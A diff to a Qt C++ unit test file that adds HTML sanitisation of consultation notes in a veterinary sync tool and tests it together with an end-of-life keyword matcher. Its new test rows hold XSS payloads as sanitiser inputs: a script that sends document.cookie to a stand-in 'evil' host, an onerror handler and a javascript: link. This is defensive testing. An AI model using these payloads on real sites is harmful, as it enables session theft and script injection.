@@ -1,7 +1,10 @@
-// The consultation payload from the parser fixtures: notes_html unchanged, notes_text and
+// The consultation payload from the parser fixtures: notes_html sanitised, notes_text and
 // discharge_summary as text, has_notes, product lines split by isDeclined, providers with their role.
 
 #include "sync/core/canonical_json.h"
+#include "sync/core/end_of_life.h"
+#include "sync/core/html_sanitizer.h"
+#include "sync/core/html_text.h"
 #include "sync/core/item_key.h"
 #include "tests/unit/payload_tests.h"
 
@@ -15,7 +18,7 @@ void TstPayloads::consultation_data()
     QTest::addColumn<QByteArray>("expected");
     QTest::addColumn<QString>("notesText"); // hand-derived by the rules of docs/backend-api.md
 
-    // The HTML is the fixture's, unchanged; the text: block ends become line breaks, cells run together,
+    // The HTML is the fixture's, sanitised; the text: block ends become line breaks, cells run together,
     // &amp; &lt; &nbsp; &#176; are decoded, &ndash; is not one of the decoded names.
     QTest::newRow("current shape, discharge summary, declined line, fractional quantity")
         << "consultation_current.json"
@@ -77,11 +80,11 @@ void TstPayloads::consultation()
     const auto payload = consultationPayload(*read, *event);
     QVERIFY2(payload, payload ? "" : qPrintable(payload.error().toString()));
     QJsonObject want = json(expected);
-    want.insert(QStringLiteral("notes_html"), read->notesHtml);
+    want.insert(QStringLiteral("notes_html"), sanitizeNotesHtml(read->notesHtml));
     want.insert(QStringLiteral("notes_text"), notesText);
     QCOMPARE(canonicalJson(*payload), canonicalJson(want));
 
-    // notes_html is byte for byte what the fixture holds.
+    // notes_html is the sanitised form of what the fixture holds, with the same text.
     const QJsonObject raw = QJsonDocument::fromJson(odis::test::readFixture(u"neo/" + file)).object();
     const QJsonObject rawConsultation = raw.contains(QStringLiteral("consultation"))
                                             ? raw.value(QStringLiteral("consultation")).toObject()
@@ -89,7 +92,9 @@ void TstPayloads::consultation()
                                                   .toObject()
                                                   .value(QStringLiteral("consultation"))
                                                   .toObject();
-    QCOMPARE(payload->value(QStringLiteral("notes_html")), rawConsultation.value(QStringLiteral("notes")));
+    const QString rawNotes = rawConsultation.value(QStringLiteral("notes")).toString();
+    QCOMPARE(payload->value(QStringLiteral("notes_html")).toString(), sanitizeNotesHtml(rawNotes));
+    QCOMPARE(htmlToText(payload->value(QStringLiteral("notes_html")).toString()), htmlToText(rawNotes));
 
     QCOMPARE(keySet(*payload), kConsultationFields);
     verifyLines(payload->value(QStringLiteral("products_services")).toArray(), kLineFields);
@@ -131,7 +136,7 @@ void TstPayloads::consultationHasNotes()
     const auto payload = consultationPayload(read, event);
     QVERIFY(payload);
     QCOMPARE(payload->value(QStringLiteral("has_notes")).toBool(), hasNotes);
-    QCOMPARE(payload->value(QStringLiteral("notes_html")).toString(), notes);
+    QCOMPARE(payload->value(QStringLiteral("notes_html")).toString(), sanitizeNotesHtml(notes));
     QCOMPARE(payload->value(QStringLiteral("notes_text")).toString().isEmpty() &&
                  payload->value(QStringLiteral("discharge_summary")).toString().isEmpty(),
              !hasNotes);
@@ -153,4 +158,47 @@ void TstPayloads::consultationRefusesInconsistentInput()
     payload = consultationPayload(read, event);
     QVERIFY(!payload);
     QCOMPARE(payload.error().code, QStringLiteral("payload_incomplete"));
+}
+
+void TstPayloads::consultationNotesSanitised_data()
+{
+    QTest::addColumn<QString>("notes");
+    QTest::addColumn<QString>("notesHtml"); // what the payload carries
+    QTest::addColumn<bool>("endOfLife");    // what the end-of-life matcher reads in it
+
+    QTest::newRow("script and handler")
+        << "<script>fetch('//evil?c='+document.cookie)</script><p onclick=\"x()\">Ate well</p>"
+        << "<p>Ate well</p>" << false;
+    QTest::newRow("img onerror") << "<img src=x onerror=alert(1)>Bright"
+                                 << "Bright" << false;
+    QTest::newRow("end of life inside a link") << "<a href=\"javascript:x\">Patient deceased</a> at 9am"
+                                               << "Patient deceased at 9am" << true;
+    QTest::newRow("end of life split by dropped markup")
+        << "<p>Owner says he <font color=red>passed</font><span style=x> away</span></p>"
+        << "<p>Owner says he passed<span> away</span></p>" << true;
+    QTest::newRow("end of life inside svg text") << "<svg><text>euthanasia</text></svg>"
+                                                 << "euthanasia" << true;
+    QTest::newRow("end of life after a stray end tag") << "put to</p>sleep"
+                                                       << "put to<br>sleep" << true;
+    QTest::newRow("end of life in an attribute only") << "<div title=\"euthanasia\">Routine</div>"
+                                                      << "<div>Routine</div>" << false;
+}
+
+void TstPayloads::consultationNotesSanitised()
+{
+    QFETCH(QString, notes);
+    QFETCH(QString, notesHtml);
+    QFETCH(bool, endOfLife);
+
+    NeoConsultation read;
+    read.id = *finishedVisit().consultationId;
+    read.notesHtml = notes;
+    const auto payload = consultationPayload(read, finishedVisit());
+    QVERIFY(payload);
+    const QString uploaded = payload->value(QStringLiteral("notes_html")).toString();
+    QCOMPARE(uploaded, notesHtml);
+    QCOMPARE(payload->value(QStringLiteral("notes_text")).toString(), htmlToText(notes));
+    const EndOfLifeMatcher matcher;
+    QCOMPARE(matcher.mentions(uploaded), endOfLife);
+    QCOMPARE(matcher.mentions(notes), endOfLife);
 }
